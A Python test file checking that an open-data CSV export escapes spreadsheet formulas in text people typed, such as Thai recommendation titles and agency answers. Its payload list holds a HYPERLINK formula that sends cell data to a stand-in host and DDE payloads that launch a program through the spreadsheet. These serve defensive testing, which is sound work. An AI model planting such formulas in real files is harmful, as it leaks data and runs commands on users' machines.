"""Formula injection on the way out (OWASP "CSV injection"): a text in the open-data CSV that a
spreadsheet would run as a formula (beginning `=`, `+`, `-`, `@`, a tab or a line break) is
written with a leading apostrophe, which Excel and LibreOffice show as text. The file is made
for spreadsheets (UTF-8 with a BOM for Excel) and its texts come from people, so it is not kept
raw; the JSON files are the exact data and keep every text as it was written."""

from __future__ import annotations

import csv
import io
from typing import Any

from litestar.testing import TestClient

from tests.conftest import CM, create_recommendation, issue, proposal, services_app, setup_world
from tests.conftest import wait_for_projections as settled
from tests.responses_scene import MOI, answer, finalized_submission, resolve
from web.public.opendata import encode

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"ดูรายละเอียด")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 ลดหนี้",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
]


def _csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_formula_in_a_text_cell_is_written_as_text() -> None:
    rows = [{"year_be": 2569, "title_th": t, "households": 0} for t in FORMULAS]
    rows.append({"year_be": 2569, "title_th": "ขอโฉนด = สิทธิ", "households": -0})
    cells = [r["title_th"] for r in _csv(encode("recommendations", rows, "csv"))]
    assert cells == [*("'" + t for t in FORMULAS), "ขอโฉนด = สิทธิ"]
    for row in _csv(encode("recommendations", rows, "csv")):
        assert row["year_be"] == "2569" and row["households"] == "0"  # numbers stay numbers
    # The JSON is the exact data.
    assert b"'=HYPERLINK" not in encode("recommendations", rows, "json")


def test_open_data_from_the_write_path(client: TestClient[Any]) -> None:
    """Texts typed by people (a recommendation's title, an agency's opinion, the Cabinet's
    decision) through the write path, out through /open/{year}/...csv and .json."""
    app = setup_world(services_app(client))
    rec = create_recommendation(app, [issue(app, proposal(app))], title_th=FORMULAS[0])
    rid = rec.recommendation_id
    other = create_recommendation(
        app, [issue(app, proposal(app, CM[1]), title="หนี้สิน")], title_th=FORMULAS[3]
    ).recommendation_id
    submission = finalized_submission(app, [rid, other])
    resolve(app, submission, [rid, other])
    answer(app, other, MOI, FORMULAS[1])
    settled(app)
    recs = {r["id"]: r for r in _csv(client.get("/open/2569/recommendations.csv").content)}
    assert recs[str(rid)]["title_th"] == "'" + FORMULAS[0]
    assert recs[str(other)]["title_th"] == "'" + FORMULAS[3]
    answers = _csv(client.get("/open/2569/answers.csv").content)
    opinions = {a["opinion_th"] for a in answers if a["status"] == "answered"}
    assert opinions == {"'" + FORMULAS[1]}
    raw = client.get("/open/2569/recommendations.json").json()["items"]
    assert {r["title_th"] for r in raw} == {FORMULAS[0], FORMULAS[3]}
    page = client.get("/open")
    assert page.status_code == 200 and "ไม่ให้โปรแกรมตารางคำนวณตีความเป็นสูตร" in page.text
